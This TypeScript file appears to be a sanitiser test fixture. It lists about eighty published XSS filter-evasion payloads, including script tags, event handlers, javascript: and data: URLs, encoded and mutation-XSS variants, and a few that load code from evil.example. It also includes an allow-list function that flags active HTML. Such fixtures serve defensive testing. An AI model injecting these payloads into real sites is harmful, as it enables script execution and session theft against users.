/**
 * Published XSS payloads: from OWASP's filter evasion list, the HTML5 Security Cheatsheet, PortSwigger's list and
 * reports about sanitisers. None may be stored, and none may run, anywhere.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/random>alert(1)</script>',
  '<script\\x20type="text/javascript">javascript:alert(1);</script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<script>alert(1)//',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav\nascript:alert(1);">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img srcset="x,, javascript:alert(1) 1x" src=x onerror=alert(1)>',
  '<IMG SRC="livescript:alert(1)" LOWSRC="javascript:alert(1)" DYNSRC="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/%0ajavascript:alert(1)" onmouseover=alert(1)>x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<BASE HREF="javascript:alert(1);//">',
  '<STYLE>@import"https://evil.example/xss.css";</STYLE>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'\"><svg/onload=alert(1)>",
  '<b/ondrag=alert(1) draggable=true>x</b>',
  '<p id=x tabindex=1 onfocus=alert(1)></p>',
  '<template><script>alert(1)</script></template>',
  '<portal src="javascript:alert(1)"></portal>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<a href="https://evil.example" target="_blank" onclick="alert(1)" ping="https://evil.example/p">x</a>',
  '<img src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27alert(1)%27/>">',
  '<x onclick=alert(1)>x</x>',
  '<custom-tag onpointerenter=alert(1)>x</custom-tag>',
];

const HARMLESS_TAG =
  /^<\/?(h[234]|p|br|hr|ul|ol|li|blockquote|strong|em|b|i|u|s|a|img|figure|figcaption|table|caption|thead|tbody|tr|th|td|code|pre)(\s+(href|title|rel|target|src|alt|width|height|loading|scope|colspan|rowspan)(="[^"<>]*")?)*\s*\/?>$/;
const HARMLESS_ADDRESS = /^(https?:\/\/|mailto:|tel:|\/(?![/\\])|#|[\w-]+$)/;

/** What stored HTML must not contain: active elements or attributes, script URLs. Plain text is allowed. */
export function whatCouldAct(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter(
    (tag) =>
      !HARMLESS_TAG.test(tag) ||
      [...tag.matchAll(/(?:href|src)="([^"]*)"/g)].some(
        ([, address = '']) => !HARMLESS_ADDRESS.test(address),
      ),
  );
}
